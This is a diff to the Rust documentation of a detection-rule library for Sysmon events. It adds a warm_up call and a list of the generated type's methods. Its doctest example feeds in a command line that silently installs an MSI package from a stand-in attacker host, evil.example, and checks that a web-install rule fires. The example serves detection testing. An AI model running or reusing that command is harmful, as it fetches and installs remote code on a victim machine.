@@ -22,12 +22,20 @@
 //! }
 //!
 //! use detect::JsonEvent;
+//! // Optional: build the prefilter automata and regexes now rather than
+//! // during the first events (a sensor does this at start-up).
+//! Example::warm_up();
 //! let event = JsonEvent::parse_str(r#"{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
 //!     "CommandLine": "cmd.exe /c msiexec /q /i https://evil.example/x.msi"}"#).unwrap();
 //! let mut hits = Vec::new();
 //! Example::scan(&event, |rule| hits.push(rule.name));
 //! assert_eq!(hits, ["msiexec_web_install"]);
 //! ```
+//!
+//! The generated type has `scan` (above), `scan_unfiltered` (the same
+//! verdicts without routing or prefilter, for tests), `warm_up`, `RULES`
+//! (metadata), `rule(name)`, `ir()` (the rules as data, for the reference
+//! interpreter) and, for sequence rules, `sequences(capacity)`.
 //!
 //! # The rule language
 //!
